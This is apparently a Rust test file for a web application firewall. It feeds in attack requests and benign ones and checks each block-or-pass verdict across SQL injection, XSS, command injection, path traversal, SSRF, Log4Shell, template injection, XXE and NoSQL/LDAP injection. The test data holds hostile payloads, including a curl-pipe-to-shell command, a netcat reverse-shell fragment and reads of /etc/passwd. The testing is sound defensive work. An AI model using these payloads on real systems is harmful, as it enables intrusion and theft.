//! The built-in rules, file by file, as data: a request in, the expected
//! verdict out (blocked with 403 or passed), at paranoia level 1.
//!
//! A request is written `KIND DATA`:
//! * `GET /uri` (any method) — a request line alone;
//! * `FORM body` — POST, `application/x-www-form-urlencoded`;
//! * `JSON body` — POST, `application/json`;
//! * `XML body` — POST, `text/xml`;
//! * `HDR Name: value` — GET / with that extra header.

use super::*;
use crate::Transaction;

const BLOCK: bool = true;
const PASS: bool = false;

/// Runs `kind data` through the set; the verdict and the logged rule ids.
fn run(rules: &RuleSet, request: &str) -> (bool, Vec<u64>) {
    let (kind, data) = request.split_once(' ').expect("KIND DATA");
    let mut tx = Transaction::new(rules);
    tx.set_connection("192.0.2.10", 40000, "192.0.2.1", 8080);
    let (method, uri, ctype, body) = match kind {
        "FORM" => ("POST", "/", Some("application/x-www-form-urlencoded"), data),
        "JSON" => ("POST", "/", Some("application/json"), data),
        "XML" => ("POST", "/", Some("text/xml"), data),
        "HDR" => ("GET", "/", None, ""),
        method => (method, data, None, ""),
    };
    tx.set_request_line(method, uri, "HTTP/1.1");
    tx.add_request_header("Host", b"api.example.com");
    tx.add_request_header(
        "User-Agent",
        b"Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
    );
    tx.add_request_header("Accept", b"application/json");
    if let Some(ctype) = ctype {
        tx.add_request_header("Content-Type", ctype.as_bytes());
        tx.add_request_header("Content-Length", body.len().to_string().as_bytes());
    }
    if kind == "HDR" {
        let (name, value) = data.split_once(':').expect("Name: value");
        tx.add_request_header(name.trim(), value.trim().as_bytes());
    }
    tx.process_request_headers();
    tx.append_request_body(body.as_bytes());
    tx.process_request_body();
    let ids = tx
        .matched_rules()
        .iter()
        .filter(|m| m.logged)
        .map(|m| m.id)
        .collect();
    (tx.intervention().is_some_and(|i| i.status == 403), ids)
}

fn check(cases: &[(&str, bool)]) {
    let rules = builtin_rule_set(1).expect("built-in rules load");
    let mut wrong = Vec::new();
    for (request, expected) in cases {
        let (blocked, ids) = run(&rules, request);
        if blocked != *expected {
            let want = if *expected { "block" } else { "pass" };
            wrong.push(format!("expected {want}: {request} (rules {ids:?})"));
        }
    }
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
}

#[test]
fn loads_at_every_paranoia_level() {
    for level in 1..=4 {
        let rules = builtin_rule_set(level).expect("built-in rules load");
        assert!(rules.unsupported().is_empty(), "{:?}", rules.unsupported());
        assert!(rules.rules().len() > 30);
    }
}

#[test]
fn paranoia_level_2_adds_stricter_rules() {
    let score = |level: u8| {
        let rules = builtin_rule_set(level).unwrap();
        let mut tx = Transaction::new(&rules);
        tx.set_request_line("GET", "/?u=http%3A%2F%2F203.0.113.5%2Fx", "HTTP/1.1");
        tx.process_request_body();
        tx.tx_var("inbound_anomaly_score").map(<[u8]>::to_vec)
    };
    assert_eq!(score(1).as_deref(), Some(&b"0"[..]));
    assert_eq!(score(2).as_deref(), Some(&b"4"[..]));
}

#[test]
fn decode() {
    check(&[
        // "1 UNION SELECT password FROM users--", Base64 without padding.
        (
            "GET /?q=MSBVTklPTiBTRUxFQ1QgcGFzc3dvcmQgRlJPTSB1c2Vycy0t",
            BLOCK,
        ),
        (
            r#"JSON {"q":"MSBVTklPTiBTRUxFQ1QgcGFzc3dvcmQgRlJPTSB1c2Vycy0t"}"#,
            BLOCK,
        ),
        (r#"JSON {"token":"dGhpcyBpcyBhIHRlc3Q="}"#, PASS),
        ("GET /?id=YWxpY2U", PASS),
        ("GET /users/YWxpY2U/orders", PASS),
    ]);
}

#[test]
fn protocol() {
    check(&[
        ("TRACK /", BLOCK),
        ("CUST /", BLOCK),
        ("PATCH /api/v1/items/7", PASS),
        ("GET /a%0d%0aSet-Cookie:x=1", BLOCK),
        ("GET /a%250ASet-Cookie:x=1", BLOCK),
        ("FORM q=line%0d%0aSet-Cookie%3a+a%3db", BLOCK),
        ("FORM to=a%40b.c%0d%0aRCPT+TO%3a+x%40evil.com", BLOCK),
        (
            "HDR User-Agent: sqlmap/1.7.4#stable (https://sqlmap.org)",
            BLOCK,
        ),
        ("HDR X-Callback: http://abc.oast.me/x", BLOCK),
        (r#"JSON {"query":"{__schema{types{name}}}"}"#, BLOCK),
        (r#"JSON {"__proto__":{"admin":true}}"#, BLOCK),
        (r#"JSON {"a":"#, BLOCK),
        (
            "GET /api/v1/users?page=2&sort=-created_at&fields=id,name",
            PASS,
        ),
        (
            r#"JSON {"name":"Ann","tags":["a","b"],"n":1.5,"ok":true,"x":null}"#,
            PASS,
        ),
        ("FORM comment=Hello%0AWorld%0AThanks%2C%0AAnn", PASS),
        (r#"JSON {"note":"Line 1\nDate: today\nquit smoking"}"#, PASS),
        (r#"JSON {"query":"{ user(id: 5) { name email } }"}"#, PASS),
        ("HDR X-Forwarded-For: 10.0.0.1, 192.168.1.20", PASS),
    ]);
}

#[test]
fn sqli() {
    check(&[
        ("GET /?id=1'+OR+'1'='1", BLOCK),
        (r#"JSON {"id":"1 UNION SELECT password FROM users"}"#, BLOCK),
        ("GET /?q=1;WAITFOR%20DELAY%20'0:0:5'--", BLOCK),
        ("FORM q=1+AND+SLEEP(5)", BLOCK),
        ("GET /?q=/*!50000union*/+/*!50000select*/+1,2", BLOCK),
        (r#"JSON {"q":"x') AND 7=7 AND ('a'='a"}"#, BLOCK),
        ("HDR X-Sort: name%27%20UNION%20SELECT%20null--", BLOCK),
        ("GET /?q=union+was+a+great+select", PASS),
        (r#"JSON {"name":"O'Brien","email":"john+or@var.es"}"#, PASS),
        ("GET /?q=select+the+best+option+from+the+list", PASS),
        (
            "FORM text=I+would+like+to+request+a+number+between+1+and+10",
            PASS,
        ),
    ]);
}

#[test]
fn xss() {
    check(&[
        ("GET /?q=%3Cscript%3Ealert(1)%3C/script%3E", BLOCK),
        (r#"JSON {"bio":"<img src=x onerror=alert(1)>"}"#, BLOCK),
        ("FORM u=javascript:alert(document.cookie)", BLOCK),
        ("GET /?q=%22onmouseover%3D%22prompt(1)", BLOCK),
        ("XML <r><m>&lt;svg/onload=confirm(1)&gt;</m></r>", BLOCK),
        (
            r#"JSON {"x":"\u003ciframe src=javascript:alert(1)\u003e"}"#,
            BLOCK,
        ),
        (
            r#"JSON {"text":"JavaScript: Basics of JavaScript Language"}"#,
            PASS,
        ),
        ("GET /?q=h2%3Ch1", PASS),
        (r#"JSON {"html":"<b>bold</b> and <i>italic</i>"}"#, PASS),
        (r#"JSON {"msg":"set an alert for 5pm, then confirm"}"#, PASS),
    ]);
}

#[test]
fn rce() {
    check(&[
        ("FORM host=127.0.0.1;cat+/etc/passwd", BLOCK),
        (r#"JSON {"cmd":"$(curl http://x.example/s|sh)"}"#, BLOCK),
        ("GET /?f=a%60id%60", BLOCK),
        ("HDR User-Agent: () { :; }; /bin/bash -c id", BLOCK),
        (r#"JSON {"p":"<!--#exec cmd=\"ls\" -->"}"#, BLOCK),
        (
            r#"JSON {"y":"!!python/object/apply:os.system ['id']"}"#,
            BLOCK,
        ),
        ("FORM x=a%7Cnc%24%7BIFS%7D10.0.0.1%24%7BIFS%7D4444", BLOCK),
        (r#"JSON {"text":"echo in the mirror"}"#, PASS),
        ("GET /?q=ls+300+lexus", PASS),
        (r#"JSON {"text":"Tom & Jerry; set the table"}"#, PASS),
        (
            r#"JSON {"hobby":"bash away in the gym | curl and divergence"}"#,
            PASS,
        ),
    ]);
}

#[test]
fn lfi() {
    check(&[
        ("GET /?file=../../../../etc/passwd", BLOCK),
        ("GET /static/..%2f..%2fapp.py", BLOCK),
        (r#"JSON {"f":"C:\\Windows\\win.ini"}"#, BLOCK),
        ("GET /?p=%252e%252e%252fconfig", BLOCK),
        ("GET /?p=%c0%ae%c0%ae/secret", BLOCK),
        ("GET /docs/v1.2/readme.md", PASS),
        (r#"JSON {"path":"/home/user/docs/report.pdf"}"#, PASS),
        (r#"JSON {"title":"Wait... what? ok/no"}"#, PASS),
    ]);
}

#[test]
fn rfi_ssrf() {
    check(&[
        (
            r#"JSON {"url":"http://169.254.169.254/latest/meta-data/"}"#,
            BLOCK,
        ),
        ("GET /?u=gopher://127.0.0.1:25/", BLOCK),
        (r#"JSON {"webhook":"http://localhost:8080/admin"}"#, BLOCK),
        (r#"JSON {"u":"file:///etc/shadow"}"#, BLOCK),
        (r#"JSON {"u":"http://[::1]/"}"#, BLOCK),
        (
            r#"JSON {"url":"https://api.example.com/v1/items?x=1"}"#,
            PASS,
        ),
        ("GET /?next=https%3A%2F%2Fwww.example.org%2Fhome", PASS),
    ]);
}

#[test]
fn java_log4shell() {
    check(&[
        ("HDR User-Agent: ${jndi:ldap://x.example/a}", BLOCK),
        (
            "HDR X-Api-Version: ${${lower:j}ndi:${lower:l}dap://x/a}",
            BLOCK,
        ),
        (
            "HDR Accept-Language: ${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
            BLOCK,
        ),
        (
            r#"JSON {"e":"T(java.lang.Runtime).getRuntime().exec('id')"}"#,
            BLOCK,
        ),
        (r#"JSON {"price":"${amount} USD"}"#, PASS),
        (r#"JSON {"course":"java lang courses"}"#, PASS),
    ]);
}

#[test]
fn template_injection() {
    check(&[
        ("FORM name={{7*7}}", BLOCK),
        (
            r#"JSON {"t":"{{''.__class__.__mro__[1].__subclasses__()}}"}"#,
            BLOCK,
        ),
        (
            "GET /?q=%3C%23assign%20x%3D%22freemarker.template.utility.Execute%22%3Fnew()%3E",
            BLOCK,
        ),
        ("FORM q=%23%7B7*7%7D", BLOCK),
        (
            r#"JSON {"tpl":"Hello {{ name }}, welcome to {{ site.title }}!"}"#,
            PASS,
        ),
        (r#"JSON {"t":"costs #{n} items"}"#, PASS),
    ]);
}

#[test]
fn xxe() {
    check(&[
        (
            r#"XML <?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
            BLOCK,
        ),
        (
            "FORM data=%3C!DOCTYPE+a+SYSTEM+%22http://x/y.dtd%22%3E",
            BLOCK,
        ),
        (
            r#"XML <?xml version="1.0"?><r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/hosts"/></r>"#,
            BLOCK,
        ),
        (
            r#"XML <?xml version="1.0"?><order><id>5</id><note>ok &amp; fine</note></order>"#,
            PASS,
        ),
        (
            r#"XML <s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><Get><id>1</id></Get></s:Body></s:Envelope>"#,
            PASS,
        ),
    ]);
}

#[test]
fn nosql_ldap() {
    check(&[
        (r#"JSON {"user":{"$ne":null},"pass":{"$ne":null}}"#, BLOCK),
        ("FORM user%5B%24ne%5D=x", BLOCK),
        (r#"JSON {"q":"'; return true; var x='"}"#, BLOCK),
        (r#"JSON {"q":"1, $where: 'sleep(1000)'"}"#, BLOCK),
        ("GET /?u=*)(uid=*))(%7C(uid=*", BLOCK),
        ("GET /?u=admin)(%26(objectClass=*)", BLOCK),
        (r#"JSON {"price":"$5.00","note":"cost (approx)"}"#, PASS),
        ("GET /?filter=name%3Dbob", PASS),
        (r#"JSON {"currency":"$","expr":"a (b) c"}"#, PASS),
    ]);
}
